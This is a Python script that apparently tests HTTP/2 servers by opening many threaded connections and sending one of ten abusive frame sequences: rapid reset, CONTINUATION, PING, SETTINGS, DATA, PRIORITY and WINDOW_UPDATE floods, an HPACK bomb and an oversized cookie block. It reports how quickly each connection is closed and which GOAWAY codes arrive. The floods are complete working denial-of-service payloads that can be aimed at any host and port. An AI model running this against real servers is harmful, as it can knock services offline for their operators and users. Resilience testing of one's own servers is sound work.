"""Connections that abuse HTTP/2, each in a thread: what is sent is made before it begins.

  http2_flood.py HOST PORT KIND CONNECTIONS

Prints one JSON object: for each connection the seconds until it was closed (null: it never was,
although all had been sent and 10 s went by), and the codes of the GOAWAY frames that came."""
import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GET = b"\x82\x86\x84\x01\x04weir"  # GET http://weir/, which leaves the dynamic table alone
POST = b"\x83\x86\x84\x01\x04weir"
STREAMS = 50000  # of a rapid reset
FRAMES = 100000  # of a flood


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A field without indexing; both shorter than 127 bytes, or a value of a prefix integer."""
    length = bytes([len(value)]) if len(value) < 127 else b"\x7f" + varint(len(value) - 127)
    return b"\x00" + bytes([len(name)]) + name + length + value


def varint(number):
    out = b""
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def block_frames(block, stream):
    """A header block as HEADERS and as many CONTINUATION frames as it takes."""
    parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    frames = [frame(HEADERS if i == 0 else CONTINUATION,
                    (END_STREAM if i == 0 else 0) | (END_HEADERS if i == len(parts) - 1 else 0), stream, part)
              for i, part in enumerate(parts)]
    return b"".join(frames)


def hpack_bomb():
    """One long value in the dynamic table, then header blocks of nothing but its index."""
    value = b"b" * 3900
    first = GET + b"\x40\x01b\x7f" + varint(len(value) - 127) + value
    return (frame(HEADERS, END_STREAM | END_HEADERS, 1, first) +
            b"".join(block_frames(GET + b"\xbe" * 16000, stream) for stream in range(3, 203, 2)))


FLOODS = {
    "rapid-reset": lambda: b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, GET) + frame(
        RST_STREAM, 0, s, b"\0\0\0\x08") for s in range(1, 2 * STREAMS, 2)),
    "continuation": lambda: frame(HEADERS, END_STREAM, 1, GET) + b"".join(
        frame(CONTINUATION, 0, 1, literal(b"x-%d" % (i % 100), b"v")) for i in range(FRAMES)),
    "empty-continuation": lambda: frame(HEADERS, END_STREAM, 1, GET) + frame(CONTINUATION, 0, 1) * FRAMES,
    "ping": lambda: frame(PING, 0, 0, b"12345678") * FRAMES,
    "settings": lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * FRAMES,
    "empty-data": lambda: frame(HEADERS, END_HEADERS, 1, POST) + frame(DATA, 0, 1) * FRAMES,
    "priority": lambda: frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)) * FRAMES,
    "window-update": lambda: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * FRAMES,
    "hpack-bomb": hpack_bomb,
    "cookies": lambda: block_frames(GET + literal(b"cookie", b"c" * 4000) * 2500, 1),  # 10 MB
}


def goaway_codes(received):
    codes = []
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if received[3] == 7:
            codes.append(int.from_bytes(received[13:17], "big"))
        received = received[9 + length:]
    return codes


def flood(host, port, data, results):
    received, closed = b"", False
    connection = socket.create_connection((host, port), timeout=10)
    began = time.monotonic()

    def send():
        try:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + data)
        except OSError:
            pass  # it was closed while we sent

    sender = threading.Thread(target=send)
    sender.start()
    try:
        while chunk := connection.recv(65536):
            received += chunk
        closed = True
    except TimeoutError:
        pass
    except OSError:
        closed = True
    results.append({"seconds": time.monotonic() - began if closed else None, "codes": goaway_codes(received)})
    connection.close()
    sender.join()


def main():
    host, port, kind, connections = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    data, results = FLOODS[kind](), []
    threads = [threading.Thread(target=flood, args=(host, port, data, results)) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({"seconds": [r["seconds"] for r in results], "codes": [r["codes"] for r in results]}))


if __name__ == "__main__":
    main()
